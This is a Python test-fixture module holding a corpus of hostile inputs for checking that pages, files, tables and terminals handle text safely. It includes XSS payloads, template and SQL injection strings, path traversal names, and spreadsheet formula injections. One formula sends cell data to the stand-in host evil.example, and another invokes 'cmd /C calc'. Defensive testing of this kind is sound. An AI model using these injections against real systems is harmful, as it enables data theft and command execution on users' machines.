"""Texts that could break a page, a file, a table or a terminal: one corpus for all tests.

Whatever runs sets `pwned` in the page, and whatever becomes an element has `pwned` in its source.
"""

from __future__ import annotations

MARKUP = (
    "<script>globalThis.pwned=1</script>",
    "</script><script>globalThis.pwned=1</script>",
    '"><img src=x onerror="globalThis.pwned=1">',
    "' autofocus onfocus='globalThis.pwned=1",
    "<svg/onload=globalThis.pwned=1>",
    "</title></textarea></style><b onmouseover=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:pwned=1>here</a>",
    "javascript:globalThis.pwned=1",
    "<!--<script>--> <![CDATA[ ]]> &lt;img&gt; &amp; &#60;",
    "[here](javascript:pwned=1) ![](x) `code` **bold**",
)
TEMPLATES = (
    "{{7*7}} {{config}} {% raw %}",
    "{name} {0} {count.__class__} {{name}}",
    "${7*7} #{7*7} %s %(name)s %n",
    "A$$B $& $1 $`",
    "\\n \\u0041 \\; , ; :",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"pwned")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
)
NAMES = (
    "O'Neil",
    "José",
    "Jose\u0301",
    "مريم العربي",
    "שלום",
    "👩\u200d👩\u200d👧 🏳️\u200d🌈",
    "__proto__",
    "constructor",
    "../../x",
    "CON",
    "NA",
    "null",
    "0",
    "'; DROP TABLE member; --",
)
KEPT = (*MARKUP, *TEMPLATES, *FORMULAS, *NAMES)
"""What must come out everywhere as it went in."""

CLEANED = {
    "\t=2+2": "=2+2",
    "\r@A1": "@A1",
    "Nu\x00l\x08l": "Null",
    "lone\ud800": "lone",
    "re\x1b[31md": "re[31md",
    "re\x9b31md": "re31md",
    "\u202egnorw\u202c": "gnorw",
    "\u2066apart\u2069": "apart",
    "two\u2028lines": "two lines",
}
"""What is taken without what nobody sees, and as what; in a field of one line."""

NOTHING = ("", " ", "\x00", "\ud800", "\u202e", "\x9b", "\r\n", "\u200b", "\u2060\ufeff")
"""What is no name at all: nobody could see it."""
